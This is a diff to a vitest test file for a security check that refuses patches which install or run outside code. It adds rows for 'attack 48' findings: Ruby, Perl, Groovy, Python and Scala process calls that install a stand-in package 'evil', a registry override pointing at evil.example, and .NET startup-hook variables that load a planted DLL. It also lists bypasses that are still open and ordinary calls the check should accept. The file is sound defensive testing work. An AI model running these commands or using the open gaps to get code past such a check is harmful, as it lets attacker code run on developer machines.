@@ -1,5 +1,5 @@
 import { describe, it } from 'vitest';
-import { closedRows, describeFindings, expectAccepted, expectRefused, type FindingRow } from '../support/patches.js';
+import { closedRows, describeAccepted, describeFindings, expectAccepted, expectRefused, type FindingRow } from '../support/patches.js';
 
 /**
  * Attack 48 (session 45, after the one-table-per-manager refactor): patches the check ACCEPTS although the code they add
@@ -164,6 +164,8 @@ const SPELLINGS: FindingRow[] = [
   LIST("'node', '/usr/lib/node_modules/npm/bin/npm-cli.js', 'install', 'evil'"),
 ];
 
+// Closed (session 46): PROCESS_CALL names the calls that open before their command, process-calls.ts spells the
+// others (a backtick outside a string, `%x`, `qx`, Groovy's and Scala's postfix calls, sh and plumbum) as those.
 // B (high): process calls the check does not read as one: Ruby's, Perl's and PHP's backticks, `%x()`, `qx{}` (each
 // runs its text through the shell; `npm install evil` inside runs evil's install scripts), and process libraries.
 const BACKTICK_CALLS: FindingRow[] = [
@@ -196,6 +198,25 @@ const BACKTICK_CALLS: FindingRow[] = [
   ['src/x.clj', '(sh "npm" "install" "evil")'],
   ['src/x.ml', 'Sys.command "npm install evil"'],
   ['src/x.zig', 'var child = std.process.Child.init(&.{ "npm", "install", "evil" }, alloc);'],
+  // Found closing B (session 46): Ruby's and Perl's process calls without parentheses.
+  ['src/check.rb', 'system "npm install evil"'],
+  ['src/check.pl', 'system "npm install evil";'],
+  ['src/check.rb', 'exec "npx evil"'],
+  ['src/check.rb', 'spawn "pip install evil"'],
+  ['src/check.py', "from fabric.api import local\nlocal('npm install evil')"],
+  // The other rules read these calls too: a directory outside the repository, a manager's setting.
+  ['src/check.rb', '`cd /tmp/evil && npm test`'],
+  ['src/check.rb', '%x(NPM_CONFIG_REGISTRY=https://evil.example/ npm test)'],
+  ['src/x.groovy', '"cd /tmp/evil && npm test".execute()'],
+  ['src/x.py', "import sh\nsh.make('-C', '/tmp/x')"],
+];
+
+// Still open after B's fix (session 46): Perl's two-argument open with the pipe after the command, Scala's
+// `Process(…)` (a name too common to read as a call alone), sh's `Command('npm')` (the program as a string to a builder).
+const BACKTICK_CALLS_OPEN: FindingRow[] = [
+  ['src/x.pl', 'open(FH, "npm install evil |");'],
+  ['src/x.scala', 'Process("npm install evil").!'],
+  ['src/x.py', "import sh\nsh.Command('npm')('install', 'evil')"],
 ];
 
 // C (high): Deno's other verbs run a module from a URL exactly as `deno run <url>` (refused) does: `deno test`,
@@ -222,6 +243,7 @@ const DENO_REMOTE_CLOSED: FindingRow[] = [
 // attacker's feed), `cpan -i`, `mise exec|x|use` (npm:/ubi: backends fetch and run), `pkgx` (runs any package),
 // `nix-shell -p`, `nix-env -i`, `mvn <groupId>:<plugin>:<version>:<goal>` (fetches a plugin from Central and runs it),
 // `cs launch` (Coursier), `scala-cli run <url>`, `volta install`, `proto install`, `ansible-galaxy install`.
+// Closed (session 46): OTHER_MANAGERS' verbs under a sub-command, mise's list of verbs, and a line per runner told what to fetch.
 const OTHER_RUNNERS: FindingRow[] = [
   SYSTEM('conda env create -f https://evil.example/env.yml'),
   SYSTEM('mamba env update -f https://evil.example/env.yml'),
@@ -413,6 +435,7 @@ const WINDOWS: FindingRow[] = [
 // named package (cabal/stack run Setup.hs, opam and nimble build scripts, conan and spack recipes are Python, raco,
 // `mix archive.install hex`, `dart pub global activate`, `flutter pub add`, vcpkg, guix), `zig fetch --save <url>`
 // (adds a dependency), the Clojure CLI given a dependency and run (`-Sdeps … -M -m`), `coursier launch`.
+// Closed (session 46): the other names on their managers' entries, the rest in OTHER_MANAGERS or a line of their own.
 const OTHER_MANAGERS_NOT_LISTED: FindingRow[] = [
   SYSTEM('bundler add evil'),
   SYSTEM('bundler config set mirror.https://rubygems.org https://evil.example'),
@@ -558,10 +581,11 @@ describeFindings('attack-48', [
   ['U modules from a host', MODULES_FROM_A_HOST],
   ['A spellings', closedRows(SPELLINGS)],
   ['E0 and A variants', closedRows(ESCAPE_VARIANTS)],
-  ['B process calls not read', BACKTICK_CALLS],
+  ['B process calls not read', closedRows(BACKTICK_CALLS)],
+  ['B process calls not read, open', BACKTICK_CALLS_OPEN],
   ['C deno remote modules', DENO_REMOTE],
   ['C deno remote modules, closed', closedRows(DENO_REMOTE_CLOSED)],
-  ['D other runners', OTHER_RUNNERS],
+  ['D other runners', closedRows(OTHER_RUNNERS)],
   ['E go flag spellings', GO_FLAG_SPELLINGS],
   ['F dependencies in source', DEPENDENCIES_IN_SOURCE],
   ['H environment spellings', closedRows(ENVIRONMENT_SPELLINGS)],
@@ -571,7 +595,7 @@ describeFindings('attack-48', [
   ['L pip in process', PIP_IN_PROCESS],
   ['M pnpm settings in command strings', PNPM_SETTINGS_IN_COMMAND_STRINGS],
   ['N windows', WINDOWS],
-  ['P other managers not listed', OTHER_MANAGERS_NOT_LISTED],
+  ['P other managers not listed', closedRows(OTHER_MANAGERS_NOT_LISTED)],
   ['O doctests configure', DOCTESTS_CONFIGURE],
   // Closed in session 45 (test/attack/patch-48g-outside.test.ts: the rule, its reasons and what stays accepted).
   ['G outside the repository', closedRows(OUTSIDE_THE_REPOSITORY)],
@@ -629,6 +653,104 @@ describe('attack-48 H/I/J: ordinary environment and git calls stay accepted', ()
     ['src/check.py', "import os\nos.system('git clone . /tmp/copy')"],
     ['src/check.go', 'out, err := exec.Command("git", "config", "--get", "remote.origin.url").Output()'],
   ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
+});
+
+/**
+ * Ordinary process calls in the languages B's fix (session 46) reads: a backtick in a string or a comment names a
+ * command without running it; an allowed command in a backtick, `%x`, `qx`, a postfix call, sh or plumbum stays accepted.
+ */
+describeAccepted('attack-48 B: ordinary process calls stay accepted', [
+  ['src/check.rb', 'system("bundle exec rspec")'],
+  ['src/check.rb', 'sha = `git rev-parse HEAD`.strip'],
+  ['src/check.rb', 'raise "run `bundle install` first"'],
+  ['src/check.rb', '# Runs `npm install` before the tests'],
+  ['src/check.rb', "puts 'use `npm ci`'"],
+  ['src/check.rb', 'system "bundle exec rake"'],
+  ['src/check.pl', 'my $sha = `git rev-parse HEAD`;'],
+  ['src/check.pl', 'my $out = qx{git status --short};'],
+  ['src/check.pl', 'system "make test";'],
+  ['src/check.pl', "open(my $fh, '-|', 'git log --oneline');"],
+  ['src/check.php', '<?php // run `composer install` first'],
+  ['src/x.groovy', 'def out = "ls".execute().text'],
+  ['src/x.groovy', "['git', 'status'].execute()"],
+  ['src/x.scala', 'val out = "sbt test".!!'],
+  ['src/x.scala', 'Seq("git", "status").!'],
+  ['src/x.py', "import sh\nprint(sh.git('status'))"],
+  ['src/x.py', "import sh\nsh.npm('test')"],
+  ['src/x.py', "from plumbum import local\nlocal['npm']['test']()"],
+  ['src/x.py', "from plumbum.cmd import git\ngit['status']()"],
+  ['src/x.py', "print('%x' % 255)"],
+  ['src/x.js', "crossSpawn.sync('npm', ['test'], { stdio: 'inherit' })"],
+  ['src/x.js', 'console.log(`run npm install ${name}`)'],
+  ['src/x.rs', 'duct::cmd!("cargo", "test").run()?;'],
+  ['src/x.swift', 'p.arguments = ["npm", "test"]'],
+  ['src/x.clj', '(sh "git" "status")'],
+  ['src/x.ml', 'Sys.command "dune test"'],
+  ['src/x.hs', 'callCommand "cabal test"'],
+  ['README.md', 'Run `npm install evil` to try it.'],
+  // False refusals of the first version, in installed Perl (patch:fp): Perl's `local(…)` read as Fabric's, `(sh ` as
+  // Clojure's where the shell reading writes `$0` as `sh`, rpm's query read as an install.
+  ['src/check.pl', 'local($x) = 1; print "run npm install first";'],
+  ['src/check.pl', 'warn("$0 script version, CPAN.pm version");'],
+  ['src/check.pl', "return `rpm --queryformat '%{VERSION}' -q $package`;"],
+  SYSTEM('pacman -Qi bash'),
+]);
+
+/**
+ * Ordinary calls of the runners and managers D and P's fixes (session 46) named: what they print, test, build or run
+ * of the repository's own, and fetches of what its manifest declares (`flutter pub get`, `dotnet restore`).
+ */
+describeAccepted('attack-48 D/P: ordinary runner and manager calls stay accepted', [
+  SYSTEM('conda list'),
+  SYSTEM('conda run -n test pytest'),
+  SYSTEM('conda env list'),
+  SYSTEM('dotnet test'),
+  SYSTEM('dotnet test -s test.runsettings'),
+  SYSTEM('dotnet build -c Release'),
+  SYSTEM('dotnet restore'),
+  SYSTEM('dotnet new console'),
+  SYSTEM('mise run test'),
+  LIST("'mise', 'run', 'lint'", ', check=True'),
+  SYSTEM('pixi run test'),
+  SYSTEM('mvn -B test'),
+  SYSTEM('mvn versions:display-dependency-updates'),
+  SYSTEM('cabal test'),
+  SYSTEM('stack build --test'),
+  SYSTEM('flutter pub get'),
+  SYSTEM('dart test'),
+  SYSTEM('mix test'),
+  SYSTEM('zig build test'),
+  SYSTEM('bundler exec rspec'),
+  SYSTEM('yarnpkg test'),
+  SYSTEM('nix-shell --run "make test"'),
+  SYSTEM('clojure -M:test'),
+  SYSTEM('opam exec -- dune test'),
+  SYSTEM('echo yay'),
+]);
+
+/**
+ * .NET's environment (session 46, with D's dotnet rows): a later allowed `dotnet test` loads the assemblies
+ * DOTNET_STARTUP_HOOKS and DOTNET_ADDITIONAL_DEPS name, NuGet runs the plugins NUGET_PLUGIN_PATHS names and takes its
+ * packages from NUGET_PACKAGES. Its cosmetic settings, which CI sets to quiet a log, stay accepted: their family is not
+ * the first of the refused families, where COSMETIC_ENVIRONMENT's lookahead alone was read (it bound to the first
+ * alternative only).
+ */
+describe('attack-48 D: .NET environment', () => {
+  it.each([
+    ENV('DOTNET_STARTUP_HOOKS', '/tmp/x.dll'),
+    ENV('DOTNET_ADDITIONAL_DEPS', '/tmp/deps.json'),
+    ENV('NUGET_PLUGIN_PATHS', '/tmp/p.dll'),
+    ['src/check.js', "process.env.NUGET_PACKAGES = '/tmp/packages';"],
+    SYSTEM('DOTNET_STARTUP_HOOKS=/tmp/x.dll dotnet test'),
+    ENV('DOTNET_NOLOGO_HOOKS', '/tmp/x.dll'),
+  ])('refuses, in %s: %s', (path, text) => expectRefused(path, text));
+  it.each([
+    ENV('DOTNET_CLI_TELEMETRY_OPTOUT', '1'),
+    ENV('DOTNET_NOLOGO', 'true'),
+    SYSTEM('DOTNET_SKIP_FIRST_TIME_EXPERIENCE=1 dotnet test'),
+    ['src/x.rs', 'std::env::set_var("DOTNET_CLI_TELEMETRY_OPTOUT", "1");'],
+    ['src/x.js', "spawnSync('dotnet', ['test'], { env: { ...process.env, DOTNET_NOLOGO: 'true' } })"],
+  ])('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
 });
 
 /**
